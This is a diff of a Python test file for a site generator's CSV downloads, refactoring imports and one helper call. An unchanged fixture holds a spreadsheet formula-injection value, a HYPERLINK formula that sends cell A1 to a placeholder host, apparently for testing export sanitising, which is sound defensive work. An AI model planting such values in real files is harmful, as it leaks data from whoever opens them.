@@ -12,9 +12,7 @@ import pytest
 
 from generator import downloads
 from generator.dataset.load import load_dataset
-from generator.pages.assemble import areas_with_pages
-from generator.reuse import FrameVersions
-from generator.tables import FrameIndex, figures_frame
+from generator.pages.site import areas_with_pages
 
 OFFICE_NAME = '=HYPERLINK("https://contoh.invalid/?d="&A1,"Kantor Cabang Blitar")'
 AUTHOR = "@Samsul"
@@ -28,7 +26,7 @@ def _edit(path: Path, old: str, new: str) -> None:
 
 def _csv(data: Path, name: str) -> list[dict[str, str]]:
     dataset = load_dataset(data)
-    parts = downloads.area_parts(dataset, FrameVersions(FrameIndex(figures_frame(dataset))), {})
+    parts = downloads.area_parts(dataset, {})
     files = downloads.download_files(dataset, areas_with_pages(dataset), parts)
     return list(csv.DictReader(io.StringIO(files[name].decode("utf-8"))))
 
